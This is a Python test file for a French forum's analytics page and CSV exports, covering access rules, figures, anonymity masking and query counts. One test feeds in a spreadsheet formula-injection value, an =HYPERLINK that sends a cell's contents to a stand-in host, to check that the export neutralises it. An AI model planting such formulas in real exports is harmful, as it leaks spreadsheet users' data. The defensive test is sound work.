"""/analyses and its CSV downloads: who may open them, what they show, what they never show."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from datetime import timedelta
from html import unescape
from html.parser import HTMLParser

import pytest
from flask.testing import FlaskClient

from comcep import outbox
from comcep.analytics import report
from comcep.extensions import db
from comcep.forum import services
from comcep.members.models import Member
from tests.analytics.conftest import (
    Forum,
    MakeMember,
    five_of_each,
    new_askers,
    open_topics,
    q1_args,
    solved_forum,
    tag_forum,
    utc,
)
from tests.factories import category, make_topic

TABLES = [
    "themes",
    "rubriques",
    "networks",
    "growth",
    "responsiveness",
    "activity",
    "solutions",
    "tags",
]


class TableParser(HTMLParser):
    """Collects the text of every cell of the tables (by id), and the page's <script> tags."""

    def __init__(self) -> None:
        super().__init__()
        self.tables: dict[str, list[list[str]]] = {}
        self.scripts: list[dict[str, str | None]] = []
        self._table: str | None = None
        self._row: list[str] | None = None
        self._cell: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        if tag == "script":
            self.scripts.append(attributes)
        elif tag == "table" and attributes.get("id"):
            self._table = attributes["id"]
            self.tables[self._table] = []
        elif tag == "tr" and self._table:
            self._row = []
        elif tag in ("td", "th") and self._row is not None:
            self._cell = []

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th") and self._cell is not None and self._row is not None:
            self._row.append(re.sub(r"[ \t\r\n]+", " ", "".join(self._cell)).strip())
            self._cell = None
        elif tag == "tr" and self._row is not None and self._table:
            self.tables[self._table].append(self._row)
            self._row = None
        elif tag == "table":
            self._table = None

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._cell.append(data)


def parse(html: str) -> TableParser:
    parser = TableParser()
    parser.feed(html)
    return parser


def french(value: object, unit: str = "") -> str:
    """A figure as the page writes it."""
    if value is None:
        return "—"
    if isinstance(value, str):
        return value
    text = f"{value:,}".replace(",", "\u202f") if isinstance(value, int) else f"{value:g}"
    return text.replace(".", ",") + (f"\u00a0{unit}" if unit else "")


# --- Access ---------------------------------------------------------------------------

ACCESS = [
    ("anonymous", "login"),
    ("pair", 403),
    ("other_pair", 403),
    ("hors_pair", 403),
    ("animation", 403),
    ("referent_apec", 403),
    ("comite", 200),
    ("admin", 200),
]


@pytest.mark.parametrize(("role", "expected"), ACCESS, ids=[role for role, _ in ACCESS])
@pytest.mark.parametrize("path", ["/analyses", "/analyses/themes.csv"], ids=["page", "csv"])
def test_only_the_comite_and_admins_open_the_analyses(
    members: dict[str, Member],
    client_for: Callable[[Member | None], FlaskClient],
    role: str,
    expected: int | str,
    path: str,
) -> None:
    client = client_for(None if role == "anonymous" else members[role])

    response = client.get(path)

    if expected == "login":
        assert response.status_code == 302
        assert response.headers["Location"].startswith("/connexion")
    else:
        assert response.status_code == expected


def test_a_pair_is_refused_with_a_french_reason(
    members: dict[str, Member], client_for: Callable[[Member | None], FlaskClient]
) -> None:
    response = client_for(members["pair"]).get("/analyses")

    assert "réservées au comité opérationnel" in response.get_data(as_text=True)


@pytest.mark.parametrize(
    ("role", "shown"),
    [
        ("pair", False),
        ("hors_pair", False),
        ("animation", False),
        ("comite", True),
        ("admin", True),
    ],
    ids=["pair", "hors_pair", "animation", "comite", "admin"],
)
def test_the_analyses_link_is_in_the_header_of_the_comite_and_admins_only(
    members: dict[str, Member],
    client_for: Callable[[Member | None], FlaskClient],
    role: str,
    shown: bool,
) -> None:
    html = client_for(members[role]).get("/").get_data(as_text=True)

    assert ('href="/analyses"' in html) is shown


# --- The page -------------------------------------------------------------------------


def test_the_page_shows_the_themes_table_with_its_figures(
    forum: Forum, comite_client: FlaskClient, make_member: MakeMember
) -> None:
    open_topics(new_askers(make_member, 1), "monter-un-dossier")  # a 5th opener
    response = comite_client.get("/analyses", query_string=q1_args())
    tables = parse(response.get_data(as_text=True)).tables

    assert response.status_code == 200
    rows = {row[0]: row[1:] for row in tables["table-themes"][1:]}
    assert rows["Les échanges de pratiques"] == ["5", "50\u00a0%", "14", "45,2\u00a0%"]
    assert rows["Divers"] == ["< 5", "—", "< 5", "—"]
    assert rows["Total"] == ["10", "100\u00a0%", "31", "100\u00a0%"]


def test_the_page_shows_solutions_and_tags_in_accessible_tables(
    forum: Forum, comite_client: FlaskClient, make_member: MakeMember
) -> None:
    solved_forum(forum)
    tag_forum(forum)
    five_of_each(forum, make_member)

    html = comite_client.get("/analyses", query_string=q1_args()).get_data(as_text=True)
    tables = parse(html).tables

    figures = re.search(r'id="figures-solutions">(.*?)</dl>', html, re.S).group(1)
    assert "50&nbsp;%" in figures
    assert "12&nbsp;h" in figures
    rows = {row[0]: row[1:] for row in tables["table-tags"][1:]}
    assert tables["table-tags"][0] == ["Mot-clé", "Sujets", "Messages"]
    assert rows["CPF"] == ["5", "21"]
    assert rows["VAE"] == ["< 5", "< 5"]
    assert rows["Ancien (retiré)"] == ["< 5", "< 5"]
    assert 'id="table-tags-caption"' in html
    assert 'data-chart="chart-tags-data"' in html


def test_the_page_says_which_period_and_defines_its_terms(
    forum: Forum, comite_client: FlaskClient
) -> None:
    html = comite_client.get("/analyses", query_string=q1_args()).get_data(as_text=True)

    assert "du 1er janvier 2025 au 31 mars 2025" in html
    assert "heure de Paris" in html
    for term in ("Message", "Thème", "Première réponse", "Autre réseau", "« &lt; 5 »"):
        assert f"<dt>{term}</dt>" in html


def test_the_default_period_is_the_last_complete_quarter(comite_client: FlaskClient) -> None:
    expected = report.last_quarter(report.paris_today())

    html = comite_client.get("/analyses").get_data(as_text=True)

    assert expected.label in html


@pytest.mark.parametrize("preset", ["trimestre", "annee", "lancement"])
def test_every_preset_renders(forum: Forum, comite_client: FlaskClient, preset: str) -> None:
    response = comite_client.get("/analyses", query_string={"periode": preset})

    assert response.status_code == 200


@pytest.mark.parametrize(
    ("args", "message"),
    [
        ({"periode": "dates", "du": "2025-03-31", "au": "2025-01-01"}, "doit suivre"),
        ({"periode": "dates", "du": "2025-01-01"}, "Indiquez une date"),
        ({"du": "31/12/2025", "au": "2025-12-31"}, "date"),
        ({"periode": "dates", "du": "1900-01-01", "au": "2025-01-01"}, "entre 2000 et 2100"),
        ({"periode": "siecle"}, "choix"),
    ],
    ids=["reversed", "missing-end", "bad-format", "too-early", "unknown-preset"],
)
def test_a_bad_period_gets_a_400_with_a_french_message(
    comite_client: FlaskClient, args: dict[str, str], message: str
) -> None:
    response = comite_client.get("/analyses", query_string=args)

    assert response.status_code == 400
    assert message.lower() in response.get_data(as_text=True).lower()
    assert comite_client.get("/analyses/themes.csv", query_string=args).status_code == 400


def test_charts_get_their_data_from_json_blocks_and_no_script_is_inline(
    forum: Forum, comite_client: FlaskClient, make_member: MakeMember
) -> None:
    open_topics(new_askers(make_member, 1), "monter-un-dossier")  # a thème to chart
    html = comite_client.get("/analyses", query_string=q1_args()).get_data(as_text=True)
    parser = parse(html)

    for script in parser.scripts:
        assert script.get("src") or script.get("type") == "application/json"
    sources = [s["src"] for s in parser.scripts if s.get("src")]
    assert "/static/vendor/chartjs/chart.umd.min.js" in sources
    assert "/static/js/analytics.js" in sources
    assert all(src.startswith("/static/") for src in sources)  # nothing leaves the machine
    canvases = re.findall(r'data-chart="([\w-]+)"', html)
    assert len(canvases) == 6
    for block_id in canvases:
        block = re.search(rf'<script type="application/json" id="{block_id}">(.*?)</script>', html)
        assert block is not None
        spec = json.loads(block.group(1))
        assert spec["labels"]
        assert spec["datasets"]
    assert "style=" not in html.split('<main id="contenu"')[1]  # CSP: no inline style either


def test_a_small_cell_is_a_gap_in_the_chart_and_reads_small_in_the_table(
    forum: Forum, comite_client: FlaskClient
) -> None:
    html = comite_client.get("/analyses", query_string=q1_args()).get_data(as_text=True)
    block = re.search(r'id="chart-pair-data">(.*?)</script>', html)
    spec = json.loads(block.group(1))

    points = dict(zip(spec["labels"], spec["datasets"][0]["data"], strict=True))
    assert points["Missions locales"] is None
    assert points["Apec"] is None  # masked, or the shares would give Missions locales away
    assert points["France Travail (anciennement Pôle emploi)"] == 6
    rows = {row[0]: row[1:] for row in parse(html).tables["table-networks"][1:]}
    assert rows["Missions locales"] == ["< 5", "—"]
    assert rows["Apec"] == ["masqué", "—"]
    assert "Masqué pour qu'un chiffre « < 5 » ne se déduise pas du total" in html
    assert "<dt>« masqué »</dt>" in html


def test_every_csv_link_of_the_page_downloads(forum: Forum, comite_client: FlaskClient) -> None:
    html = comite_client.get("/analyses", query_string=q1_args()).get_data(as_text=True)
    links = sorted(set(re.findall(r'href="(/analyses/[a-z]+\.csv\?[^"]+)"', html)))

    assert len(links) == 2 * len(TABLES)
    for link in links:
        response = comite_client.get(link.replace("&amp;", "&"))
        assert response.status_code == 200
        assert response.mimetype == "text/csv"


def test_the_page_runs_a_constant_number_of_queries(
    forum: Forum,
    comite_client: FlaskClient,
    make_member: MakeMember,
    count_queries: Callable,
) -> None:
    outbox.process()  # index the forum's posts now, as after the requests that wrote them
    with count_queries() as small:
        comite_client.get("/analyses", query_string=q1_args())
    authors = [make_member(network="apec") for _ in range(6)]
    for n in range(8):
        opened = utc(2025, 2, 1 + n, 9)
        topic = services.create_topic(
            authors[n % 6], category("liens-utiles"), f"Sujet {n}", "Texte", at=opened
        )
        for hours, author in enumerate(authors, start=1):
            services.reply(author, topic, "Réponse", at=opened + timedelta(hours=hours))
    db.session.commit()
    outbox.process()

    with count_queries() as large:
        comite_client.get("/analyses", query_string=q1_args())

    assert len(large) == len(small)
    assert len(small) <= 20


# --- CSV ------------------------------------------------------------------------------


def test_a_csv_download_is_utf8_with_a_bom_and_commas(
    forum: Forum, comite_client: FlaskClient, make_member: MakeMember
) -> None:
    open_topics(new_askers(make_member, 1), "monter-un-dossier")  # a 5th opener
    response = comite_client.get("/analyses/themes.csv", query_string=q1_args())

    assert response.data.startswith(b"\xef\xbb\xbf")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["Content-Disposition"]
    assert "comcep-themes-2025-01-01-2025-03-31.csv" in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))
    pratiques = next(row for row in rows if row["theme"] == "Les échanges de pratiques")
    assert pratiques == {
        "theme": "Les échanges de pratiques",
        "topics": "5",
        "topics_pct": "50.0",
        "messages": "14",
        "messages_pct": "45.2",
    }
    divers = next(row for row in rows if row["theme"] == "Divers")
    assert divers["topics"] == "< 5"
    assert divers["topics_pct"] == ""


def test_the_semicolon_option_suits_french_excel(
    forum: Forum, comite_client: FlaskClient, make_member: MakeMember
) -> None:
    open_topics(new_askers(make_member, 1), "monter-un-dossier")  # a 5th opener
    response = comite_client.get("/analyses/themes.csv", query_string=q1_args(sep="semicolon"))
    text = response.data.decode("utf-8-sig")

    assert response.data.startswith(b"\xef\xbb\xbf")
    # Columns in words for the comité's spreadsheet, and a name of its own beside the `,`
    # file's (review of stop 52: code names, and both saved under one name).
    assert text.splitlines()[0] == "Thème;Sujets;% des sujets;Messages;% des messages"
    assert "Les échanges de pratiques;5;50,0;14;45,2" in text.splitlines()
    assert response.headers["Content-Disposition"].endswith('-excel.csv"')
    plain = comite_client.get("/analyses/themes.csv", query_string=q1_args())
    assert plain.data.decode("utf-8-sig").splitlines()[0].startswith("theme,topics,")
    assert not plain.headers["Content-Disposition"].endswith('-excel.csv"')
    networks = comite_client.get("/analyses/networks.csv", query_string=q1_args(sep="semicolon"))
    rows = list(csv.reader(io.StringIO(networks.data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Code du réseau", "Nom", "Statut", "Membres", "% des membres"]
    assert {"pair", "hors pair"} <= {row[2] for row in rows[1:]} <= {"pair", "hors pair", ""}


def test_a_csv_download_never_starts_a_cell_with_a_formula(members, client_for) -> None:
    """Excel and LibreOffice run a cell starting with « = », « + », « - » or « @ »: a
    mot-clé named so by staff would become a live link in the comité's spreadsheet."""
    formula = '=HYPERLINK("https://exemple.invalid/?q="&A2;"Ouvrir le tableau complet")'
    animation = client_for(members["animation"])
    created = animation.post("/mots-cles/gestion", data={"action": "create", "name": formula})
    assert created.status_code == 302
    make_topic(members["pair"])

    response = client_for(members["comite"]).get("/analyses/tags.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + formula in cells  # listed, as text
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def test_an_unknown_table_is_a_404(comite_client: FlaskClient) -> None:
    assert comite_client.get("/analyses/membres.csv").status_code == 404


# --- Anonymity: every output scanned -----------------------------------------------------


def all_outputs(client: FlaskClient, runner: object) -> dict[str, str]:
    outputs = {"page": client.get("/analyses", query_string=q1_args()).get_data(as_text=True)}
    for preset in ("annee", "lancement"):
        outputs[f"page-{preset}"] = client.get(
            "/analyses", query_string={"periode": preset}
        ).get_data(as_text=True)
    for table in TABLES:
        for sep in ("comma", "semicolon"):
            response = client.get(f"/analyses/{table}.csv", query_string=q1_args(sep=sep))
            outputs[f"csv-{table}-{sep}"] = response.data.decode("utf-8-sig")
    dates = ["--from", "2020-01-01", "--to", "2030-12-31"]
    result = runner.invoke(args=["analytics", "report", *dates, "--format", "json"])
    outputs["cli-json"] = result.output
    for table in TABLES:
        result = runner.invoke(
            args=["analytics", "report", *dates, "--format", "csv", "--table", table]
        )
        outputs[f"cli-csv-{table}"] = result.output
    return outputs


def test_no_output_carries_a_name_an_email_a_title_or_a_text(
    forum: Forum, comite_client: FlaskClient, runner: object
) -> None:
    solved_forum(forum)  # the solutions and mots-clés tables have figures to show
    tag_forum(forum)
    secrets = forum.secrets()
    assert len(secrets) > 100

    outputs = all_outputs(comite_client, runner)

    for name, text in outputs.items():
        assert text, name
        leaked = [secret for secret in secrets if secret.lower() in text.lower()]
        assert leaked == [], f"{name} leaks {leaked[:3]}"


def test_no_output_carries_a_member_id(forum: Forum, runner: object) -> None:
    dates = ["--from", "2020-01-01", "--to", "2030-12-31"]
    data = json.loads(runner.invoke(args=["analytics", "report", *dates]).output)

    def keys(value: object) -> set[str]:
        if isinstance(value, dict):
            return set(value) | {k for v in value.values() for k in keys(v)}
        if isinstance(value, list):
            return {k for v in value for k in keys(v)}
        return set()

    assert not {key for key in keys(data) if "id" in key.split("_") or key.endswith("_id")}
    assert not {"author", "email", "name_of", "title", "body"} & keys(data)


# --- The CLI and the page agree -------------------------------------------------------------


def test_the_cli_report_matches_the_page_figures(
    forum: Forum, comite_client: FlaskClient, runner: object
) -> None:
    solved_forum(forum)
    tag_forum(forum)
    result = runner.invoke(
        args=["analytics", "report", "--from", "2025-01-01", "--to", "2025-03-31"]
    )
    data = json.loads(result.output)
    html = comite_client.get("/analyses", query_string=q1_args()).get_data(as_text=True)
    tables = parse(html).tables

    themes = {row[0]: row[1:] for row in tables["table-themes"][1:]}
    for row in data["themes"]:
        assert themes[row["theme"]] == [
            french(row["topics"]),
            french(row["topics_pct"], "%"),
            french(row["messages"]),
            french(row["messages_pct"], "%"),
        ]
    networks = {
        row[0]: row[1:]
        for key in ("table-networks", "table-organisations")
        for row in tables[key][1:]
    }
    for row in data["members_by_network"]:
        assert networks[row["name"]] == [french(row["members"]), french(row["members_pct"], "%")]
    growth = [row[1:] for row in tables["table-growth"][1:]]
    assert growth == [
        [french(row["pairs"]), french(row["hors_pairs"]), french(row["messages"])]
        for row in data["growth"]
    ]
    activity = {row[0]: row[1:] for row in tables["table-activity"][1:]}
    for row in data["activity_by_network"]:
        assert activity[row["name"]] == [french(row["topics"]), french(row["replies"])]
    tags = {row[0].removesuffix(" (retiré)"): row[1:] for row in tables["table-tags"][1:]}
    for row in data["tags"]:
        assert tags[row["name"]] == [french(row["topics"]), french(row["messages"])]
    solutions = unescape(re.search(r'id="figures-solutions">(.*?)</dl>', html, re.S).group(1))
    assert french(data["solutions"]["solved_pct"], "%") in solutions
    figures = unescape(re.search(r'id="figures-responsiveness">(.*?)</dl>', html, re.S).group(1))
    r = data["responsiveness"]
    median = r["median_first_reply_hours"]
    assert (median if median == "< 5" else f"{french(median)}\u00a0h") in figures
    for key in ("answered_within_48h_pct", "unanswered_pct", "cross_network_first_reply_pct"):
        assert french(r[key], "%") in figures


def test_a_chart_with_nothing_to_draw_says_so_instead_of_an_empty_picture(
    comite_client: FlaskClient,
) -> None:
    html = comite_client.get("/analyses", query_string=q1_args()).get_data(as_text=True)

    assert html.count("Rien à tracer sur cette période") == 7
    assert "data-chart=" not in html
    assert parse(html).tables["table-themes"][-1] == ["Total", "0", "", "0", ""]


@pytest.mark.parametrize("preset", ["trimestre", "annee", "lancement"])
def test_a_page_of_kept_tallies_runs_at_most_ten_queries(
    forum: Forum, comite_client: FlaskClient, count_queries: Callable, preset: str
) -> None:
    """Issue 8's budget, once the settled months are kept (the first visit keeps them)."""
    outbox.process()
    assert comite_client.get("/analyses", query_string={"periode": preset}).status_code == 200
    with count_queries() as statements:
        response = comite_client.get("/analyses", query_string={"periode": preset})

    assert response.status_code == 200
    assert len(statements) <= 10, "\n".join(statements)
